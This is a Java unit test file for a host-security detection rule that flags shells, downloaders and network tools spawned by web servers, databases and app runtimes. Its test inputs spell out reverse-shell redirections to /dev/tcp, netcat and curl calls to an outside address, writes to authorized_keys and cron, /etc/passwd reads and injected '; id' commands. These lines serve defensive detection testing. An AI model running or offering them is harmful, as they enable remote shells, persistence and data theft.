package io.totem.policy.warning;

import static io.totem.policy.testing.SampleBuilder.program;
import static org.assertj.core.api.Assertions.assertThat;

import io.totem.policy.port.Severity;
import io.totem.policy.supervisor.ServiceUnit;
import io.totem.policy.testing.SampleBuilder;
import io.totem.policy.testing.Scene;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class ServiceSpawnedRuleTest {

    private static final String CONTAINER = "c".repeat(64);
    private static final String SERVICE = "/system.slice/app.service";

    @ParameterizedTest
    @CsvSource({
        "/usr/sbin/nginx,/usr/bin/dash,a shell that nginx started",
        "/usr/sbin/apache2,/usr/bin/bash,a shell that apache2 started",
        "/usr/sbin/php-fpm8.4,/usr/bin/curl,a downloader that php-fpm8.4 started",
        "/usr/sbin/lighttpd,/usr/bin/ncat,a network tool that lighttpd started",
        "/usr/lib/postgresql/17/bin/postgres,/usr/bin/dash,a shell that postgres started",
        "/usr/sbin/mariadbd,/usr/bin/wget,a downloader that mariadbd started",
        "/usr/bin/redis-server,/usr/bin/bash,a shell that redis-server started"
    })
    void what_a_server_started_is_danger_and_the_title_says_both(String server, String started, String title) {
        assertThat(spawned(service(server), bare(started))).hasValueSatisfying(warning -> {
            assertThat(warning.severity()).isEqualTo(Severity.DANGER);
            assertThat(warning.title().en()).isEqualTo(title);
            assertThat(warning.why().ko()).contains("PID 1000", "user33");
        });
    }

    @Test
    void the_program_decides_whatever_it_calls_itself() {
        assertThat(spawned(service("/usr/sbin/nginx"), bare("/usr/bin/bash").comm("nginx")))
                .isPresent();
        assertThat(spawned(service("/usr/sbin/nginx").comm("x"), bare("/usr/bin/bash")))
                .isPresent();
        assertThat(spawned(
                        service("/usr/sbin/nginx"),
                        program("/usr/bin/busybox").comm("nginx").commandLine("sh", "-i")))
                .isPresent();
        assertThat(spawned(
                        service("/usr/sbin/nginx"),
                        program("/usr/bin/busybox").comm("x").commandLine("busybox", "wget", "http://x")))
                .isPresent();
        assertThat(spawned(program("/usr/bin/sleep").comm("nginx"), bare("/usr/bin/bash")))
                .isEmpty();
    }

    @Test
    void others_may_stand_between() {
        assertThat(spawned(service("/usr/sbin/nginx"), program("/usr/bin/env"), bare("/usr/bin/dash")))
                .isPresent();
    }

    @ParameterizedTest
    @ValueSource(strings = {"java", "node", "dotnet"})
    void a_runtime_is_a_server_when_it_listens(String runtime) {
        SampleBuilder server = service("/usr/bin/" + runtime).commandLine(runtime, "app");
        assertThat(Scene.of(server, bare("/usr/bin/dash"))
                        .listening("0.0.0.0", 8080)
                        .warning(WarningCode.SERVICE_SPAWNED))
                .map(Warning::severity)
                .contains(Severity.DANGER);
        assertThat(spawned(program("/usr/bin/" + runtime).commandLine(runtime, "app"), bare("/usr/bin/dash")))
                .isEmpty();
    }

    @Test
    void a_runtime_that_the_system_runs_as_a_service_is_one_though_its_socket_is_not_seen() {
        assertThat(spawned(service("/usr/bin/node").commandLine("node", "bot.js"), bare("/usr/bin/dash")))
                .isPresent();
    }

    @Test
    void npm_starts_the_server_and_is_none_in_a_container_too() {
        SampleBuilder npm =
                program("/usr/local/bin/node").commandLine("npm start").container(CONTAINER);
        assertThat(spawned(
                        npm,
                        program("/usr/bin/dash")
                                .commandLine("sh", "-c", "node server.js")
                                .container(CONTAINER)))
                .isEmpty();
        SampleBuilder app =
                program("/usr/local/bin/node").commandLine("node", "server.js").container(CONTAINER);
        assertThat(spawned(app, bare("/usr/bin/dash").container(CONTAINER))).isPresent();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "npm start",
                "node /usr/lib/node_modules/npm/bin/npm-cli.js start",
                "PM2 v5.3.0: God Daemon (/home/deploy/.pm2)",
                "node /srv/shop/node_modules/forever/bin/monitor server.js"
            })
    void what_only_starts_programs_is_no_server(String command) {
        assertThat(spawned(service("/usr/bin/node").commandLine(command.split(" ")), bare("/usr/bin/dash")))
                .isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "node /srv/npm/server.js",
                "node /srv/shop/server.js --name=pm2",
                "node /srv/ansible-ui/app.js",
                "node /srv/shop/server.js npm",
                "node /srv/shop/foreverapp.js",
                "java -Dapp.home=/opt/supervisord -jar shop.jar"
            })
    void a_server_is_one_whatever_its_folder_and_its_options_are_called(String command) {
        String program = command.startsWith("java") ? "/usr/bin/java" : "/usr/bin/node";
        assertThat(spawned(service(program).commandLine(command.split(" ")), bare("/usr/bin/dash")))
                .map(Warning::severity)
                .contains(Severity.DANGER);
    }

    @Test
    void who_answers_other_machines_does_more_than_to_start_programs() {
        assertThat(Scene.of(service("/usr/bin/node").commandLine("npm start"), bare("/usr/bin/dash"))
                        .listening("0.0.0.0", 8080)
                        .warning(WarningCode.SERVICE_SPAWNED))
                .isPresent();
    }

    @Test
    void of_what_answers_this_machine_the_title_is_its_own_word() {
        assertThat(Scene.of(service("/usr/bin/node").commandLine("npm start"), bare("/usr/bin/dash"))
                        .listening("127.0.0.1", 3000)
                        .warning(WarningCode.SERVICE_SPAWNED))
                .isPresent();
        assertThat(Scene.of(
                                service("/usr/bin/python3.13").commandLine("python3", "/usr/bin/supervisord", "-n"),
                                bare("/usr/bin/dash"))
                        .listening("127.0.0.1", 9001)
                        .warning(WarningCode.SERVICE_SPAWNED))
                .isEmpty();
    }

    @Test
    void a_transfer_of_galeras_is_a_script_and_no_word_behind_another() {
        SampleBuilder database = service("/usr/sbin/mariadbd");
        assertThat(spawned(
                        database,
                        program("/usr/bin/bash")
                                .commandLine("bash", "-ue", "/usr/bin/wsrep_sst_rsync", "--role", "donor"),
                        shell("du -sk /var/lib/mysql")))
                .isEmpty();
        assertThat(spawned(
                        database,
                        program("/usr/bin/bash").commandLine("bash", "/var/lib/mysql/x", "/usr/bin/wsrep_sst_rsync"),
                        shell("du -sk /var/lib/mysql")))
                .isPresent();
        assertThat(spawned(
                        database,
                        program("/var/lib/mysql/x").commandLine("bash", "/usr/bin/wsrep_sst_rsync"),
                        shell("id")))
                .isPresent();
        assertThat(spawned(
                        database,
                        program("/usr/bin/bash").commandLine("bash", "-ue", "/usr//bin/wsrep_sst_mariabackup"),
                        shell("du -sk /var/lib/mysql")))
                .isEmpty();
        assertThat(spawned(
                        database,
                        program("/usr/bin/bash").commandLine("bash", "-c", "/usr/bin/wsrep_sst_rsync; sh"),
                        shell("id")))
                .isPresent();
    }

    @Test
    void a_persons_own_editor_server_starts_terminals_and_is_left_alone() {
        SampleBuilder editor = program("/home/kim/.vscode-server/bin/x/node")
                .commandLine("/home/kim/.vscode-server/bin/x/node", "server-main.js");
        assertThat(Scene.of(editor, program("/usr/bin/bash").commandLine("/bin/bash"))
                        .listening("127.0.0.1", 40123)
                        .warning(WarningCode.SERVICE_SPAWNED))
                .isEmpty();
    }

    @Test
    void gunicorn_is_a_server_behind_a_unix_socket_and_by_its_title() {
        assertThat(spawned(
                        service("/usr/bin/python3.13").commandLine("gunicorn: worker [shop]"), bare("/usr/bin/dash")))
                .map(Warning::severity)
                .contains(Severity.DANGER);
        assertThat(spawned(
                        service("/usr/bin/python3.13")
                                .commandLine(
                                        "/usr/bin/python3",
                                        "/opt/shop/venv/bin/gunicorn",
                                        "--bind",
                                        "unix:/run/s.sock"),
                        bare("/usr/bin/dash")))
                .isPresent();
    }

    @Test
    void a_servers_own_workers_are_the_same_program_and_no_finding() {
        SampleBuilder master =
                service("/usr/bin/python3.13").commandLine("/usr/bin/python3", "/usr/bin/gunicorn", "a:app");
        assertThat(spawned(
                        master,
                        service("/usr/bin/python3.13").commandLine("/usr/bin/python3", "/usr/bin/gunicorn", "a:app")))
                .isEmpty();
        assertThat(spawned(
                        master,
                        service("/usr/bin/python3.13")
                                .commandLine(
                                        "python3", "-c", "from multiprocessing.spawn import spawn_main; spawn_main()")))
                .isEmpty();
        assertThat(spawned(
                        master,
                        service("/usr/bin/python3.13")
                                .commandLine("python3", "-c", "import pty; pty.spawn('/bin/sh')")))
                .map(Warning::severity)
                .contains(Severity.DANGER);
        assertThat(Scene.of(
                                service("/usr/bin/node").commandLine("node", "app.js"),
                                service("/usr/bin/node").commandLine("/usr/bin/node", "/opt/app/worker.js"))
                        .listening("0.0.0.0", 3000)
                        .warning(WarningCode.SERVICE_SPAWNED))
                .isEmpty();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/usr/sbin/sendmail -t -i",
                "/usr/sbin/sendmail -t -i -f wordpress@example.com",
                "/usr/bin/msmtp -t"
            })
    void mail_of_php_is_its_work_and_mail_with_more_behind_it_is_not(String command) {
        assertThat(spawned(service("/usr/sbin/php-fpm8.4"), shell(command))).isEmpty();
        assertThat(spawned(service("/usr/sbin/php-fpm8.4"), shell(command + "; id")))
                .isPresent();
        assertThat(spawned(service("/usr/sbin/php-fpm8.4"), shell(command + " $(id)")))
                .isPresent();
        assertThat(spawned(service("/usr/sbin/php-fpm8.4"), shell("/tmp/sendmail -t")))
                .isPresent();
    }

    @Test
    void postgres_archives_and_restores_by_a_shell_and_a_session_does_not() {
        assertThat(spawned(
                        postgres("postgres: 17/main: archiver archiving 000000010000000000000003"),
                        shell("test ! -f /srv/wal/3 && cp pg_wal/3 /srv/wal/3")))
                .isEmpty();
        assertThat(spawned(
                        postgres("postgres: startup recovering 000000010000000000000003"),
                        shell("cp /srv/wal/3 pg_wal/3")))
                .isEmpty();
        assertThat(spawned(postgres("postgres: archiver"), shell("wal-push"), bare("/usr/bin/ssh")))
                .isEmpty();
        assertThat(spawned(postgres("postgres: shop shop [local] COPY"), shell("id")))
                .isPresent();
        assertThat(spawned(postgres("postgres: archiver shop [local] COPY"), shell("id")))
                .isPresent();
    }

    @Test
    void apache_writes_its_log_through_a_program_of_the_system() {
        assertThat(spawned(service("/usr/sbin/apache2"), shell("/usr/bin/rotatelogs /var/log/a.log 86400")))
                .isEmpty();
        assertThat(spawned(service("/usr/sbin/apache2"), shell("/tmp/rotatelogs /var/log/a.log 86400")))
                .isPresent();
    }

    @Test
    void a_cgi_program_of_a_package_is_work_and_ones_own_is_a_caution() {
        assertThat(spawned(
                        service("/usr/sbin/apache2"),
                        service("/usr/bin/perl").commandLine("/usr/bin/perl", "/usr/lib/cgi-bin/awstats.pl")))
                .isEmpty();
        assertThat(spawned(
                        service("/usr/sbin/apache2"),
                        service("/usr/bin/perl").commandLine("/usr/bin/perl", "/srv/www/cgi-bin/guest.pl")))
                .map(Warning::severity)
                .contains(Severity.CAUTION);
        assertThat(spawned(
                        service("/usr/sbin/apache2"),
                        service("/usr/bin/perl").commandLine("/usr/bin/perl", "/tmp/x.pl")))
                .map(Warning::severity)
                .contains(Severity.DANGER);
    }

    @Test
    void what_makes_pictures_of_a_site_is_a_caution() {
        assertThat(spawned(service("/usr/sbin/php-fpm8.4"), shell("/usr/bin/convert a.png -resize 100 b.png")))
                .map(Warning::severity)
                .contains(Severity.CAUTION);
        for (String quoted : List.of(
                "ffmpeg -i '/var/www/a b (1).mp4' -vf scale=320:-1 out.webm 2>&1",
                "/usr/bin/wkhtmltopdf 'https://shop.example.org/?a=1&b=2' /tmp/o.pdf > /dev/null 2>&1",
                "mysql -e 'select 1; select 2' shop 2>/dev/null",
                "git -C /var/www/app pull 2>&1")) {
            assertThat(spawned(service("/usr/sbin/php-fpm8.4"), shell(quoted)))
                    .as(quoted)
                    .map(Warning::severity)
                    .contains(Severity.CAUTION);
        }
        for (String more : List.of(
                "ffmpeg -i a.mp4 b.webm 2>&1; id",
                "ffmpeg -i 'a' $(id) b",
                "git pull 2>&1 | sh",
                "mysql -e 'a'\n id",
                "ffmpeg -i a > /var/www/x.php")) {
            assertThat(spawned(service("/usr/sbin/php-fpm8.4"), shell(more)))
                    .as(more)
                    .map(Warning::severity)
                    .contains(Severity.DANGER);
        }
        assertThat(spawned(service("/usr/sbin/php-fpm8.4"), shell("/usr/bin/convert a.png b.png | sh")))
                .map(Warning::severity)
                .contains(Severity.DANGER);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "python3 /var/www/shop/bin/ocr.py '/var/www/shop/in/a b.png'",
                "exec /srv/shop/venv/bin/python3.13 -u ocr.py a.png 2>&1",
                "'/usr/bin/php8.4' 'artisan' 'queue:work' '--once' > /dev/null 2>&1 &",
                "node scripts/render.js --page 3 < /dev/null",
                "/usr/bin/pdftk a.pdf b.pdf cat output c.pdf"
            })
    void a_script_of_the_site_is_a_caution_and_so_is_the_shell_that_starts_it(String command) {
        assertThat(spawned(
                        service("/usr/sbin/php-fpm8.4"),
                        program("/usr/bin/dash").commandLine("sh", "-c", command)))
                .map(Warning::severity)
                .contains(Severity.CAUTION);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "python3 -c 'import os'",
                "python3 -",
                "/tmp/python3 ocr.py",
                "python3 -u",
                "python3 '/tmp/x.py'",
                "python3 /tmp/x.py",
                "python3 /var/www/shop/../../../tmp/x.py",
                "python3 /var/www/shop/wp-content/uploads/x.py",
                "php -r 'system(1);'",
                "perl -e 'exec 1'",
                "python3 ocr.py; id",
                "python3 ocr.py $(id)",
                "python3 ocr.py | sh",
                "python3 ocr.py > /var/www/shop/x.php",
                "bash -i",
                "node -e 1"
            })
    void what_is_more_than_a_script_of_the_site_stays_danger(String command) {
        assertThat(spawned(
                        service("/usr/sbin/php-fpm8.4"),
                        program("/usr/bin/dash").commandLine("sh", "-c", command)))
                .map(Warning::severity)
                .contains(Severity.DANGER);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "exec '/usr/bin/ffmpeg' '-i' 'a.mov' 'b.mp4'",
                "zip -q photos.zip a.jpg b.jpg",
                "cd /srv/shop && git pull",
                "cd /srv/shop && git pull 2>&1; composer install --no-dev > build.log 2>&1",
                "mysqldump 'shop' | gzip > /srv/backup/shop.sql.gz",
                "zstd -q -c /srv/fifo > /dev/null",
                "/usr/local/bin/report --month 11 >> /var/log/shop/report.log",
                "tar czf /srv/backup/a.tgz /srv/shop",
                "cd /srv/shop && python3 ocr.py a.png | sort",
            })
    void a_few_programs_of_the_system_are_a_caution_whatever_language_starts_them(String command) {
        for (SampleBuilder server : List.of(
                service("/usr/sbin/php-fpm8.4"),
                service("/usr/bin/python3.13").commandLine("gunicorn: worker [shop]"),
                service("/usr/bin/node").commandLine("node", "app.js"),
                service("/usr/bin/java").commandLine("java", "-jar", "app.jar"))) {
            assertThat(spawned(server, shell(command)))
                    .as(command)
                    .map(Warning::severity)
                    .contains(Severity.CAUTION);
        }
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "cd /tmp && ./x",
                "cd /tmp && python3 x.py",
                "cd /var/www/html/wp-content/uploads; php a.php",
                "git -c core.sshCommand=x pull",
                "git fetch --upload-pack=x",
                "sort --compress-program=x a",
                "mysql shop -e '\\! x'",
                "sqlite3 a.db '.shell x'",
                "zip -T -TT x a b",
                "exec 5<>/dev/tcp/203.0.113.9/9",
                "exec bash",
                "/tmp/x",
                "/usr/local/bin/../../../tmp/x",
                "cd /srv/shop && id",
                "git pull && bash",
                "git pull; curl -o /tmp/x http://203.0.113.9/x",
                "echo x > /var/www/shop/x.php",
                "echo x > /etc/cron.d/x",
                "echo x >> /root/.ssh/authorized_keys",
                "cp a.txt a.php",
                "cat /etc/passwd",
                "env x",
                "nc 203.0.113.9 9",
                "PATH=/tmp git pull",
                "tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec=x",
                "tar cIf x y z",
                "java -jar /tmp/x.jar",
                "echo aQ== | base64 -d > x",
                "echo \"$(id)\"",
                "git pull & x",
                "ls 2>/dev/tcp/203.0.113.9/9",
                "python3 -c 'import os' | sort",
                ""
            })
    void what_starts_decodes_fetches_or_looks_around_stays_danger(String command) {
        assertThat(spawned(service("/usr/sbin/php-fpm8.4"), shell(command)))
                .map(Warning::severity)
                .contains(Severity.DANGER);
    }

    @Test
    void phps_mail_is_quiet_with_the_end_of_options_before_it_too() {
        SampleBuilder mail = service("/usr/bin/dash").commandLine("sh", "-c", "--", "/usr/sbin/sendmail -t -i");
        assertThat(spawned(service("/usr/sbin/php-fpm8.4"), mail)).isEmpty();
        for (List<String> hidden : List.of(
                List.of("bash", "-c", "-o", "posix", "id"),
                List.of("bash", "-oc", "posix", "id"),
                List.of("sh", "-c", "--", "/usr/sbin/sendmail -t -i; id"),
                List.of("sh", "-c", "--", "--", "/usr/sbin/sendmail -t -i"))) {
            assertThat(spawned(
                            service("/usr/sbin/php-fpm8.4"),
                            service("/usr/bin/bash").commandLine(hidden.toArray(String[]::new))))
                    .as("%s", hidden)
                    .map(Warning::severity)
                    .contains(Severity.DANGER);
        }
    }

    @Test
    void a_hook_of_a_repository_that_git_starts_below_a_web_server_is_a_caution() {
        SampleBuilder hook = program("/usr/bin/dash").commandLine("/bin/sh", "hooks/post-receive");
        assertThat(spawned(service("/usr/sbin/nginx"), program("/usr/bin/git"), hook))
                .map(Warning::severity)
                .contains(Severity.CAUTION);
        assertThat(spawned(
                        service("/usr/sbin/nginx"),
                        program("/usr/lib/git-core/git"),
                        program("/usr/bin/dash").commandLine("sh", "/srv/git/x.git/hooks/update.d/10-build")))
                .map(Warning::severity)
                .contains(Severity.CAUTION);
        for (String odd : List.of("/", "//", "x.d/", ".d/x", "hooks", "hooks/.d/x")) {
            assertThat(spawned(
                            service("/usr/sbin/nginx"),
                            program("/usr/bin/git"),
                            program("/usr/bin/dash").commandLine("sh", odd)))
                    .as(odd)
                    .isPresent();
        }
        assertThat(spawned(service("/usr/sbin/nginx"), program("/tmp/git"), hook))
                .map(Warning::severity)
                .contains(Severity.DANGER);
        assertThat(spawned(
                        service("/usr/sbin/nginx"),
                        program("/usr/bin/git"),
                        program("/usr/bin/dash").commandLine("sh", "-c", "id")))
                .map(Warning::severity)
                .contains(Severity.DANGER);
    }

    @Test
    void a_sites_own_cron_asks_this_machine() {
        assertThat(fetched("http://127.0.0.1/wp-cron.php?doing_wp_cron")).contains(Severity.CAUTION);
        assertThat(fetched("https://localhost:8443/cron")).contains(Severity.CAUTION);
        assertThat(fetched("http://127.0.0.1.evil.example/x")).contains(Severity.DANGER);
        assertThat(fetched("http://203.0.113.9/x")).contains(Severity.DANGER);
    }

    private static Optional<Severity> fetched(String address) {
        return spawned(service("/usr/sbin/php-fpm8.4"), program("/usr/bin/curl").commandLine("curl", "-s", address))
                .map(Warning::severity);
    }

    @Test
    void jenkins_runs_builds_by_design() {
        SampleBuilder jenkins =
                service("/usr/bin/java").commandLine("/usr/bin/java", "-jar", "/usr/share/java/jenkins.war");
        assertThat(Scene.of(jenkins, shell("make test"))
                        .listening("0.0.0.0", 8080)
                        .warning(WarningCode.SERVICE_SPAWNED))
                .hasValueSatisfying(warning -> {
                    assertThat(warning.severity()).isEqualTo(Severity.CAUTION);
                    assertThat(warning.why().en()).contains("a program that starts others");
                });
    }

    @Test
    void a_tool_of_cron_or_of_a_login_has_no_service_above_it() {
        assertThat(spawned(
                        program("/usr/sbin/cron").root(),
                        shell("wp cron event run --due-now"),
                        service("/usr/bin/php8.4").commandLine("php", "/usr/local/bin/wp")))
                .isEmpty();
        assertThat(spawned(program("/usr/sbin/sshd").root(), bare("/usr/bin/bash")))
                .isEmpty();
    }

    @Test
    void secrets_in_the_arguments_are_not_told() {
        assertThat(spawned(
                        service("/usr/sbin/nginx"),
                        program("/usr/bin/curl").commandLine("curl", "-u", "kim:hunter2", "http://x/")))
                .hasValueSatisfying(warning ->
                        assertThat(warning.why().en()).contains("curl").doesNotContain("hunter2"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/usr/sbin/php-fpm8.4",
                "/usr/sbin/nginx",
                "/usr/sbin/apache2",
                "/usr/sbin/mariadbd",
                "/usr/bin/redis-check-rdb",
                "/usr/bin/java",
                "/usr/bin/node"
            })
    void what_has_left_its_service_as_its_parent_still_belongs_to_its_unit(String server) {
        Scene scene =
                Scene.beside(service(server), shell("sleep 400")).unit("app.service", unit("ExecStart=" + server));
        assertThat(scene.warning(WarningCode.SERVICE_SPAWNED)).hasValueSatisfying(warning -> {
            assertThat(warning.severity()).isEqualTo(Severity.DANGER);
            assertThat(warning.why().en()).contains("belongs to the unit", "PID 1000");
            assertThat(warning.why().ko()).contains("유닛", "PID 1000");
        });
    }

    @Test
    void what_the_unit_itself_starts_has_left_nobody() {
        String start = "ExecStartPost=-/bin/sh -c 'until test -e /run/${NAME}.sock; do sleep 1; done'";
        SampleBuilder server = service("/usr/sbin/php-fpm8.4");
        assertThat(Scene.beside(server, shell("until test -e /run/app.sock; do sleep 1; done"))
                        .unit("app.service", unit("ExecStart=/usr/sbin/php-fpm8.4", start))
                        .warning(WarningCode.SERVICE_SPAWNED))
                .isEmpty();
        assertThat(Scene.beside(service("/usr/sbin/php-fpm8.4"), shell("sleep 400"))
                        .unit("app.service", unit("ExecStart=/usr/sbin/php-fpm8.4", start))
                        .warning(WarningCode.SERVICE_SPAWNED))
                .isPresent();
        assertThat(Scene.beside(
                                service("/usr/sbin/mariadbd"),
                                service("/usr/bin/bash").commandLine("/bin/bash", "/etc/mysql/debian-start"))
                        .unit("app.service", unit("ExecStartPost=!/etc/mysql/debian-start"))
                        .warning(WarningCode.SERVICE_SPAWNED))
                .isEmpty();
    }

    @Test
    void what_was_there_before_the_service_or_is_anothers_or_of_no_unit_has_not_left_it() {
        ServiceUnit unit = unit("ExecStart=/opt/start");
        assertThat(Scene.beside(shell("node app.js"), service("/usr/sbin/nginx"))
                        .unit("app.service", unit)
                        .warning(WarningCode.SERVICE_SPAWNED))
                .isEmpty();
        assertThat(Scene.beside(service("/usr/bin/node"), shell("sleep 9").uid(998))
                        .unit("app.service", unit)
                        .warning(WarningCode.SERVICE_SPAWNED))
                .isEmpty();
        assertThat(Scene.beside(
                                service("/usr/sbin/php-fpm8.4"),
                                shell("sleep 9").cgroup("/system.slice/other.service"))
                        .unit("app.service", unit)
                        .unit("other.service", unit)
                        .warning(WarningCode.SERVICE_SPAWNED))
                .isEmpty();
        String cron = "/system.slice/cron.service";
        assertThat(Scene.beside(
                                service("/usr/bin/node").cgroup(cron),
                                shell("sleep 9").cgroup(cron))
                        .unit("cron.service", unit)
                        .warning(WarningCode.SERVICE_SPAWNED))
                .isEmpty();
        assertThat(Scene.beside(service("/usr/sbin/php-fpm8.4"), shell("sleep 9"))
                        .warning(WarningCode.SERVICE_SPAWNED))
                .isEmpty();
    }

    @Test
    void a_job_on_the_command_line_is_no_service_and_one_with_a_port_is() {
        for (String tool : List.of("/usr/local/bin/wp", "/srv/shop/artisan", "/srv/site/vendor/bin/drush")) {
            SampleBuilder job = service("/usr/bin/php8.4").commandLine("php", tool, "run");
            assertThat(spawned(job, shell("mysqldump shop"), bare("/usr/bin/nc.openbsd")))
                    .isEmpty();
            assertThat(spawned(
                            service("/usr/bin/php8.4").commandLine("php", tool).container(CONTAINER),
                            shell("php queue").container(CONTAINER)))
                    .isEmpty();
        }
        assertThat(Scene.of(service("/usr/bin/php8.4").commandLine("php", "-S", "0.0.0.0:80"), shell("id"))
                        .listening("0.0.0.0", 80)
                        .warning(WarningCode.SERVICE_SPAWNED))
                .isPresent();
    }

    @Test
    void what_cron_or_a_unit_that_ends_started_is_a_job() {
        for (String[] command : List.of(
                new String[] {"/usr/bin/node", "/srv/shop/build.js"},
                new String[] {"/usr/bin/java", "-jar", "/srv/tool/build.jar"},
                new String[] {"/usr/bin/python3.13", "/srv/shop/venv/bin/gunicorn", "--check-config"})) {
            SampleBuilder inCron = service(command[0]).commandLine(command).cgroup("/system.slice/cron.service");
            assertThat(spawned(inCron, shell("git pull").cgroup("/system.slice/cron.service")))
                    .isEmpty();
            assertThat(Scene.of(service(command[0]).commandLine(command), shell("git pull"))
                            .unit("app.service", unit("Type=oneshot", "ExecStart=/opt/build"))
                            .warning(WarningCode.SERVICE_SPAWNED))
                    .isEmpty();
        }
        assertThat(spawned(
                        program("/usr/sbin/crond").root(),
                        service("/usr/bin/node").commandLine("node", "build.js"),
                        shell("tar c .")))
                .isEmpty();
    }

    @Test
    void a_folder_on_the_way_makes_no_application_server_of_a_script() {
        assertThat(spawned(
                        service("/usr/bin/python3.13")
                                .commandLine(
                                        "/srv/flask-shop/venv/bin/python",
                                        "/srv/flask-shop/manage.py",
                                        "clearsessions"),
                        shell("true")))
                .isEmpty();
        assertThat(spawned(
                        service("/usr/bin/python3.13")
                                .commandLine("python3", "/srv/shop/venv/bin/flask", "db", "upgrade"),
                        shell("true")))
                .isEmpty();
        assertThat(spawned(
                        service("/usr/bin/python3.13").commandLine("python3", "-m", "flask", "--app", "shop", "run"),
                        shell("true")))
                .isPresent();
    }

    @Test
    void varnish_compiles_its_configuration() {
        assertThat(spawned(
                        service("/usr/sbin/varnishd"),
                        shell("exec gcc -g -O2 -Wall -pthread -fpic -shared -Wl,-x -o vgc.so vgc.c")))
                .isEmpty();
        assertThat(spawned(service("/usr/sbin/varnishd"), shell("gcc x.c; ./a.out")))
                .isPresent();
    }

    @Test
    void a_store_of_many_names_is_told_by_that_of_its_server() {
        assertThat(spawned(service("/usr/bin/redis-check-rdb"), bare("/usr/bin/bash")))
                .map(warning -> warning.title().en())
                .contains("a shell that redis-server started");
        assertThat(spawned(service("/usr/bin/valkey-sentinel"), bare("/usr/bin/bash")))
                .isPresent();
    }

    private static ServiceUnit unit(String... lines) {
        return ServiceUnit.of(List.of(lines));
    }

    private static Optional<Warning> spawned(SampleBuilder... line) {
        return Scene.of(line).warning(WarningCode.SERVICE_SPAWNED);
    }

    private static SampleBuilder service(String path) {
        return program(path).uid(33).cgroup(SERVICE).commandLine(path);
    }

    private static SampleBuilder postgres(String title) {
        return service("/usr/lib/postgresql/17/bin/postgres").commandLine(title);
    }

    private static SampleBuilder bare(String path) {
        return service(path);
    }

    private static SampleBuilder shell(String text) {
        return service("/usr/bin/dash").commandLine("sh", "-c", text);
    }
}
